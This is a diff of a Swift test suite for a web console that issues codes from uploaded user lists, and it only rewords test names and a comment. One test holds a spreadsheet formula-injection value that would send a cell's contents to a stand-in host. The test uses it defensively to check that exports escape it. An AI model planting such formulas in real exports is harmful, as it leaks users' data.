@@ -39,7 +39,7 @@ import WebMessages
     }
   }
 
-  @Test func `a list is checked first, and then its codes are a file that no browser caches`() async throws {
+  @Test func `a list is checked first, and its codes are then a file that no browser caches`() async throws {
     let (browser, _) = try await server.signedIn("alice", .helpdesk)
     let csrf = try await browser.csrf()
     let list = "username,lifetime\r\nbob,60\r\n\"car,ol\",\r\n"
@@ -64,7 +64,7 @@ import WebMessages
     #expect(actors == ["administrator alice"])
   }
 
-  @Test func `an account whose name is a formula is not a formula in the file with the codes`() async throws {
+  @Test func `an account name that is a formula is not a formula in the file with the codes`() async throws {
     let (browser, _) = try await server.signedIn("alice", .helpdesk)
     let csrf = try await browser.csrf()
     let name = #"=WEBSERVICE("http://a.test/?"&C2)"#
@@ -77,7 +77,7 @@ import WebMessages
     #expect(try payloads(answer).map(\.username) == [name, "@bob"])
   }
 
-  @Test func `the codes come as sheets where that was asked for, in the language of the sheets`() async throws {
+  @Test func `the codes come as sheets if that was asked for, in the language of the sheets`() async throws {
     let (browser, _) = try await server.signedIn("alice", .helpdesk)
     let csrf = try await browser.csrf()
     let list = "username\nbob\n\"<b>&\"\"'\"\n"
@@ -99,7 +99,7 @@ import WebMessages
   }
 
   @Test(arguments: [[("form", "pictures")], [("form", "sheets")], [("form", "sheets"), ("language", "fr")]])
-  func `an unknown form of the codes, or language of the sheets, makes no code`(more: [(String, String)]) async throws {
+  func `an unknown output form, or an unknown sheet language, issues no code`(more: [(String, String)]) async throws {
     let (browser, _) = try await server.signedIn("alice", .helpdesk)
     let csrf = try await browser.csrf()
     let before = try await codes()
@@ -108,7 +108,7 @@ import WebMessages
     #expect(try await codes() == before)
   }
 
-  @Test func `more sheets than a page has are neither offered nor made`() async throws {
+  @Test func `more sheets than the limit are neither offered nor made`() async throws {
     let (browser, _) = try await server.signedIn("alice", .helpdesk)
     let csrf = try await browser.csrf()
     let list = "username\n" + (0...ListPages.mostSheets).map { "person\($0)\n" }.joined()
@@ -121,7 +121,7 @@ import WebMessages
     #expect(try await codes() == before)
   }
 
-  @Test func `the page of codes says who has issued each, and when it was used`() async throws {
+  @Test func `the page of codes says who issued each code, and when it was used`() async throws {
     let (browser, _) = try await server.signedIn("alice", .helpdesk)
     let csrf = try await browser.csrf()
     _ = await browser.upload(Self.issue, form("username\nbob\n", csrf: csrf))
@@ -135,7 +135,9 @@ import WebMessages
     #expect(text.contains("<td data-column=\"Used\">\(used)</td>"))
   }
 
-  @Test func `each wrong line is named by its number, and nothing is done unless that is asked for`() async throws {
+  @Test func `each wrong line is named by its number, and nothing is issued unless wrong lines may be skipped`()
+    async throws
+  {
     let (browser, _) = try await server.signedIn("alice", .administrator)
     let csrf = try await browser.csrf()
     let before = try await codes()
@@ -154,7 +156,7 @@ import WebMessages
   }
 
   @Test(arguments: ["", "name\nbob\n", "username\n", "username,username\nbob,bob\n", "username\nb ob\n"])
-  func `a list that names nobody, or has other columns, makes no code`(list: String) async throws {
+  func `a list that names nobody, or has unknown columns, issues no code`(list: String) async throws {
     let (browser, _) = try await server.signedIn("alice", .helpdesk)
     let csrf = try await browser.csrf()
     let before = try await codes()
@@ -163,7 +165,7 @@ import WebMessages
     #expect(try await codes() == before)
   }
 
-  @Test func `a list that is not text is refused in words, in Korean as well`() async throws {
+  @Test func `a list that is not text is refused with an explanation, also in Korean`() async throws {
     let (browser, _) = try await server.signedIn("alice", .helpdesk)
     let csrf = try await browser.csrf()
     let wide = form([0xFF, 0xFE, 0x75, 0], [("csrf", csrf), ("lifetime", "900")])
@@ -175,7 +177,7 @@ import WebMessages
     #expect(ConsoleBrowser.text(await browser.get("/console/enrol-list")).contains("명단 등록"))
   }
 
-  @Test(arguments: [Role.auditor, .operator]) func `a role that gives out no codes is refused page and forms`(
+  @Test(arguments: [Role.auditor, .operator]) func `a role that may not issue codes is refused the page and its forms`(
     role: Role
   ) async throws {
     let (browser, _) = try await server.signedIn("alice", role)
@@ -187,7 +189,7 @@ import WebMessages
     }
   }
 
-  @Test(arguments: [check, issue]) func `a forged form, another method and another form are refused`(
+  @Test(arguments: [check, issue]) func `a forged form, a wrong method and an unknown form are refused`(
     path: String
   ) async throws {
     let (browser, _) = try await server.signedIn("alice", .administrator)
@@ -204,7 +206,7 @@ import WebMessages
     #expect(try await codes() == before)
   }
 
-  @Test func `a list that would not fit into the form of its codes is refused when it is checked`() async throws {
+  @Test func `a list that would not fit into the form of its codes is refused by the check`() async throws {
     let (browser, _) = try await server.signedIn("alice", .helpdesk)
     let csrf = try await browser.csrf()
     let list = "username\n" + String(repeating: "\n", count: 600_000)
@@ -216,7 +218,8 @@ import WebMessages
   func `a list is checked up to the last byte of its limit`(more: Int, isTaken: Bool) async throws {
     let (browser, _) = try await server.signedIn("alice", .helpdesk)
     let csrf = try await browser.csrf()
-    // The end of each of both lines counts twice, since it comes back as two bytes. The second line is wrong, and is named so.
+    // The end of each of the two lines counts twice, because it comes back as two bytes. The second line is wrong, and is
+    // reported as wrong.
     let begin = "username\nbob\n"
     let list = begin + String(repeating: "x", count: UploadLimit.list - begin.utf8.count - 2 + more)
     #expect(await browser.upload(Self.check, form(list, csrf: csrf)).status == (isTaken ? .ok : .conflict))
